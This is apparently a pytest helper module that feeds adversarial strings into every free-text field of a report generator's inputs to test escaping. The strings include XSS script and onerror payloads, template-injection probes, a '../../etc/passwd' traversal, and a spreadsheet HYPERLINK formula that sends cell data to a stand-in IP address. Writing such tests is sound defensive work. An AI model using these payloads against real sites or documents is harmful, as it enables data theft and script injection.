"""Texts that are up to no good, wherever a spec or a result holds free text."""

from __future__ import annotations

from dataclasses import replace
from typing import TypeVar

import pytest
from invented_results import full_inputs

from specc.diagnostics.model import Diagnostic
from specc.graph.network import Network
from specc.measure.result import Measurement
from specc.numerics.quantized import QuantizedNetwork
from specc.report.inputs import ReportInputs

HOSTILE = {
    "markup": "<script>alert(1)</script></style><img src=x onerror=alert(1)>\"'&{{ 7*7 }}{% for x in () %}",
    "characters": "$\\frac{1}{0}$_^{} r\u202el\u2066\u200f bell\x07 null\x00 esc\x1b[31m"
    " \u05e9\u05dc\u05d5\u05dd \u4f60\u597d \U0001f600",
    "long words": "w" * 120 + "no_break_" * 12,
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1)|[x](javascript:alert(1))\n| new | row |\r\n# heading',
    "end of script": "</script><script>window.hacked = 1</script><!-- <script> ]]>",
    "path": "../../etc/passwd\\..\\x",
    "nothing": "",
}

# For parametrized tests: the quick suite takes all of it at once, or some where pages are laid out; the slow one each.
ALL_OF_IT = pytest.param(" ".join(HOSTILE.values()), id="all of it")
_QUICK = ("markup", "characters", "long words")
ON_PAGES = [
    pytest.param(text, id=name, marks=() if name in _QUICK else pytest.mark.slow) for name, text in HOSTILE.items()
]
EACH = [ALL_OF_IT, *(pytest.param(text, id=name, marks=pytest.mark.slow) for name, text in HOSTILE.items())]


def hostile_inputs(text: str) -> ReportInputs:
    """The invented results with a text of anybody's choice wherever a spec or a result holds free text."""
    inputs = full_inputs()
    spec = inputs.spec
    first = spec.targets[0]
    hardware = first.hardware
    clock = hardware.clock
    assert clock is not None
    hardware = hardware.model_copy(
        update={"vendor": text, "title": text, "notes": text, "clock": clock.model_copy(update={"source": text})}
    )
    target = first.model_copy(update={"name": text, "hardware": hardware})
    measured = inputs.measurements[first.name]
    provenance = measured.provenance.model_copy(
        update={
            "compiler": text,
            "compiler_flags": text,
            "model_assumptions": (text,),
            "hardware": text,
            "library_versions": {text: text},
        }
    )
    energy = measured.energy.model_copy(update={"basis": text})
    measured = measured.model_copy(update={"target": text, "provenance": provenance, "energy": energy, "key": text})
    counter = next(iter(measured.counters.values()))
    measured = measured.model_copy(update={"counters": {**measured.counters, text: counter}, "notes": (text,)})
    host = inputs.measurements["host"]
    baseline = host.baselines[0].model_copy(update={"name": text, "version": text})
    results = {**inputs.measurements, "host": host.model_copy(update={"baselines": (baseline,), "notes": (text,)})}
    del results[first.name]
    results = {text: measured, **results}
    guidelines = spec.guidelines
    assert guidelines is not None
    return ReportInputs(
        spec=spec.model_copy(
            update={
                "targets": (target, *spec.targets[1:]),
                "guidelines": guidelines.model_copy(update={"application": text}),
            }
        ),
        network=_network(inputs.network, text),
        measurements={name: _measurement(m, inputs.network.layers[0].name, text) for name, m in results.items()},
        verdicts=[
            v.model_copy(update={"target": text, "reason": text, "label": text}) if v.target == first.name else v
            for v in inputs.verdicts
        ],
        quantized=_quantized(inputs.quantized, inputs.network.layers[0].name, text) if inputs.quantized else None,
        failures={"host": text},
        diagnostics=(Diagnostic("W4105", text, None, notes=(text,)),),
        source_name=text,
    )


def _network(network: Network, text: str) -> Network:
    """A network, and a first layer, called by a text."""
    first, second, *rest = network.layers
    renamed = (replace(first, name=text), replace(second, inputs=(text,)), *rest)
    return replace(network, name=text, layers=renamed)


def _measurement(measurement: Measurement, old: str, new: str) -> Measurement:
    layers = tuple(one.model_copy(update={"name": new}) if one.name == old else one for one in measurement.layers)
    return measurement.model_copy(update={"layers": layers})


Value = TypeVar("Value")


def _quantized(network: QuantizedNetwork, old: str, new: str) -> QuantizedNetwork:
    def renamed(entries: dict[str, Value]) -> dict[str, Value]:
        return {new if name == old else name: value for name, value in entries.items()}

    return QuantizedNetwork(_network(network.network, new), renamed(network.formats), renamed(network.numbers))
